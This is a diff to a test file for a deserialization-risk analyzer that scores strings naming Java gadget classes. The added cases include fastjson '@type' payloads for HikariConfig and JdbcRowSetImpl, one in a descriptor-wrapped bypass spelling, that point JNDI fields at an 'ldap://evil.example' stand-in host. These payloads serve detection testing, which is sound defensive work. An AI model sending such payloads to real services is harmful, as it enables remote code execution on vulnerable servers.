@@ -23,6 +23,12 @@ describe("deserialization analyzer", () => {
     expect(s("org.springframework.context.support.ClassPathXmlApplicationContext")).toBe(0.9);
     expect(s("com.zaxxer.hikari.HikariConfig")).toBe(0.9);
     expect(s("ch.qos.logback.core.db.JNDIConnectionSource")).toBe(0.9);
+    expect(s('{"@type":"Lcom.zaxxer.hikari.HikariConfig;","metricRegistry":"ldap://evil.example/a"}')).toBe(0.9);
+    // fastjson's JVM descriptor spelling of the classic gadget.
+    expect(s('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://evil.example/a"}')).toBe(0.9);
+    // Named in code or a config file, where no binder reads it: weak.
+    expect(s("import org.springframework.context.support.ClassPathXmlApplicationContext;")).toBe(0.6);
+    expect(s('<bean id="ds" class="org.apache.tomcat.dbcp.dbcp2.BasicDataSource">')).toBe(0.6);
     for (const v of ["org.springframework.context.ApplicationContext", "com.zaxxer.hikari.pool", "HikariConfig"]) expect(s(v)).toBe(0);
   });
 
